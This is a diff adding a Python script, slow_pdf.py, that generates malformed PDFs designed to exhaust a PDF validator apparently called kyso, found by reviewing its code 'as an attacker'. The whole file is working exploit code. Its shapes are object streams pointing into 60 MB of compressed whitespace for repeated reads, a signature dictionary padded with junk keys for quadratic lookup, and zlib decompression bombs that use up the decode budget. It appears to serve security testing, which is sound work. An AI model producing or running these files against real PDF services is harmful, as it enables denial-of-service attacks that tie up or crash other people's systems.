@@ -1,0 +1,172 @@
+#!/usr/bin/env python3
+"""PDFs that cost a validator more than their size: each shape makes one loop of a reader
+repeat work, found by reading kyso's verify/ and pdf/ as an attacker (2026-12-02). Written
+with Python's zlib and nothing of kyso's.
+
+    slow_pdf.py SHAPE OUT.pdf [N]
+
+Shapes:
+  objstm-shared-offset  an object stream whose N entries all point at one offset, where a run
+                        of 60 MB of white space ends in `0`: read per entry, n × 60 MB.
+  objstm-whitespace     the same run, N entries at offsets 0, 1, 2, …: each read to its end.
+  sig-dict-keys         a signature field whose inline signature dictionary has N extra keys:
+                        compared key by key with a linear lookup, N² steps.
+  inflate-budget        N object streams, each a zlib bomb of 64 MiB that one form field
+                        reaches, and N MB of padding: the document's decode budget (32 times
+                        its size) spent to the last byte. Bounded, but seconds of work.
+"""
+import sys
+import zlib
+
+shape, out = sys.argv[1], sys.argv[2]
+n = int(sys.argv[3]) if len(sys.argv) > 3 else 2000
+
+
+def write(objs, trailer_extra=b""):
+    """A file of numbered objects (bytes), a classic xref table, the trailer."""
+    pdf = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+    offsets = {}
+    for num in sorted(objs):
+        offsets[num] = len(pdf)
+        pdf += b"%d 0 obj\n" % num + objs[num] + b"\nendobj\n"
+    size = max(objs) + 1
+    xref = len(pdf)
+    pdf += b"xref\n0 %d\n0000000000 65535 f \n" % size
+    for num in range(1, size):
+        if num in offsets:
+            pdf += b"%010d 00000 n \n" % offsets[num]
+        else:
+            pdf += b"0000000000 65535 f \n"
+    pdf += b"trailer\n<< /Size %d /Root 1 0 R%s >>\nstartxref\n%d\n%%%%EOF\n" % (
+        size,
+        trailer_extra,
+        xref,
+    )
+    return pdf
+
+
+def objstm(offsets):
+    """Catalog, pages, and object stream 3 holding objects 10.. at `offsets` in 60 MB of white
+    space ending in `0`; the form's one field is object 10. The object stream is reached
+    through a cross-reference stream (type 2 entries)."""
+    head = b" ".join(b"%d %d" % (10 + i, off) for i, off in enumerate(offsets)) + b" "
+    z = zlib.compressobj(9)
+    body = z.compress(head)
+    chunk = b" " * (1 << 20)
+    for _ in range(60):
+        body += z.compress(chunk)
+    body += z.compress(b"0") + z.flush()
+    objs = {
+        1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [10 0 R] >> >>",
+        2: b"<< /Type /Pages /Kids [] /Count 0 >>",
+        3: b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
+        % (len(offsets), len(head), len(body))
+        + body
+        + b"\nendstream",
+    }
+    pdf = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+    at = {}
+    for num in sorted(objs):
+        at[num] = len(pdf)
+        pdf += b"%d 0 obj\n" % num + objs[num] + b"\nendobj\n"
+    xref_num = 4
+    at[xref_num] = len(pdf)
+    size = 10 + len(offsets)
+    rows = bytearray()
+    for num in range(size):
+        if num in at:
+            rows += bytes([1]) + at[num].to_bytes(4, "big") + (0).to_bytes(2, "big")
+        elif num >= 10:
+            rows += bytes([2]) + (3).to_bytes(4, "big") + (num - 10).to_bytes(2, "big")
+        else:
+            rows += bytes([0]) + (0).to_bytes(4, "big") + (0xFFFF).to_bytes(2, "big")
+    x = zlib.compress(bytes(rows))
+    pdf += (
+        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\nstream\n"
+        % (xref_num, size, len(x))
+        + x
+        + b"\nendstream\nendobj\n"
+    )
+    pdf += b"startxref\n%d\n%%%%EOF\n" % at[xref_num]
+    return pdf
+
+
+if shape == "objstm-shared-offset":
+    pdf = objstm([0] * n)
+elif shape == "objstm-whitespace":
+    pdf = objstm(list(range(n)))
+elif shape == "sig-dict-keys":
+    # The signature dictionary inline in its field (/V << … >>), with a /ByteRange that covers
+    # the whole file but its /Contents: structurally right, so the reader goes on to check that
+    # the dictionary is the one of the revision it signs.
+    junk = b"".join(b"/K%d %d " % (i, i) for i in range(n))
+    contents = b"<" + b"00" * 64 + b">"
+    placeholder = b"[0000000000 0000000000 0000000000 0000000000]"
+    sig = (
+        b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange "
+        + placeholder
+        + b" /Contents "
+        + contents
+        + b" "
+        + junk
+        + b">>"
+    )
+    objs = {
+        1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] /SigFlags 3 >> >>",
+        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
+        4: b"<< /FT /Sig /T (Signature1) /Type /Annot /Subtype /Widget /Rect [0 0 0 0] /P 3 0 R /V "
+        + sig
+        + b" >>",
+    }
+    pdf = write(objs)
+    a = pdf.index(contents)
+    b = a + len(contents)
+    ranges = b"[%010d %010d %010d %010d]" % (0, a, b, len(pdf) - b)
+    assert len(ranges) == len(placeholder)
+    pdf = pdf.replace(placeholder, ranges, 1)
+elif shape == "inflate-budget":
+    z = zlib.compressobj(9)
+    bomb = b"".join(z.compress(bytes(1 << 20)) for _ in range(63)) + z.flush()
+    first = 100
+    objs = {
+        1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [%s] >> >>"
+        % b" ".join(b"%d 0 R" % (first + i) for i in range(n)),
+        2: b"<< /Type /Pages /Kids [] /Count 0 >>",
+        3: b"<< /Length %d >>\nstream\n" % (n << 20) + b"%" * (n << 20) + b"\nendstream",
+    }
+    # Object `first + i` is the only object of stream `10 + i` (a type 2 entry).
+    for i in range(n):
+        objs[10 + i] = (
+            b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n"
+            % len(bomb)
+            + bomb
+            + b"\nendstream"
+        )
+    pdf = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+    at = {}
+    for num in sorted(objs):
+        at[num] = len(pdf)
+        pdf += b"%d 0 obj\n" % num + objs[num] + b"\nendobj\n"
+    size = first + n + 1
+    xref_num = size - 1
+    at[xref_num] = len(pdf)
+    rows = bytearray()
+    for num in range(size):
+        if num in at:
+            rows += bytes([1]) + at[num].to_bytes(4, "big") + (0).to_bytes(2, "big")
+        elif first <= num < first + n:
+            rows += bytes([2]) + (10 + num - first).to_bytes(4, "big") + (0).to_bytes(2, "big")
+        else:
+            rows += bytes([0]) + (0).to_bytes(4, "big") + (0xFFFF).to_bytes(2, "big")
+    x = zlib.compress(bytes(rows))
+    pdf += (
+        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\nstream\n"
+        % (xref_num, size, len(x))
+        + x
+        + b"\nendstream\nendobj\n"
+    )
+    pdf += b"startxref\n%d\n%%%%EOF\n" % at[xref_num]
+else:
+    sys.exit(f"unknown shape {shape}")
+open(out, "wb").write(pdf)
